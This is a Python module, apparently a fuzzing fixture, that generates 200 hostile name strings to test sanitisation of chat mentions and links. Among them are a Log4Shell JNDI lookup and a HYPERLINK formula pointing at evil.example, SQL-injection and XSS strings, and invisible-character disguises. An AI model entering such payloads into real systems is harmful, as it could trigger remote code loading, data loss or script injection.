"""Two hundred texts that somebody might put into a name to reach everybody, or to deceive."""

from itertools import product

_TARGETS = (
    "!channel",
    "!here",
    "!everyone",
    "!subteam^S0TEAM001",
    "!subteam^S0TEAM001|@sales",
    "!date^0^{date}|soon",
    "@U0ANA0001",
    "@W0ANA0001|ana",
    "#C0VENTAS1",
    "#C0VENTAS1|ventas",
    "http://evil.example",
    "https://evil.example|https://crm.example",
    "mailto:x@evil.example|write",
    "slack://open",
    "javascript:alert(1)|x",
)
_DISGUISES = (
    "<{}>",
    "Acme <{}> Inc.",
    "<<{}>>",
    "&lt;{}&gt; <{}>",
    "&amp;lt;<{}>",
    "\u202e<{}>",
    "<\u200b{}>",
    "<{}\u2060>",
    "\n> <{}>",
    "{{lead}} <{}>",
    "`<{}>` *<{}>* _<{}>_",
    "\x00<{}>\x07",
)
_OTHERS = (
    "&" * 5_000,
    "<" * 5_000,
    "a" * 5_000,
    "\U0001f600" * 1_000,
    "\u0301" * 300,
    "{0} {} {lead} {by!r} {x.__class__}",
    "%s %(lead)s %n",
    "${jndi:ldap://evil.example}",
    "\r\n\r\n<!channel>",
    "\ud800<!here>",
    "𝓐𝓬𝓶𝓮 <!channel>",
    "Аcme",
    '=HYPERLINK("http://evil.example")',
    "",
    " ",
    "\u200b",
    "'; DROP TABLE lead; --",
    "</script><script>alert(1)</script>",
    "&#60;!channel&#62;",
    "&lt;!channel&gt;",
)

HOSTILE = (
    *(shape.replace("{}", target) for shape, target in product(_DISGUISES, _TARGETS)),
    *_OTHERS,
)
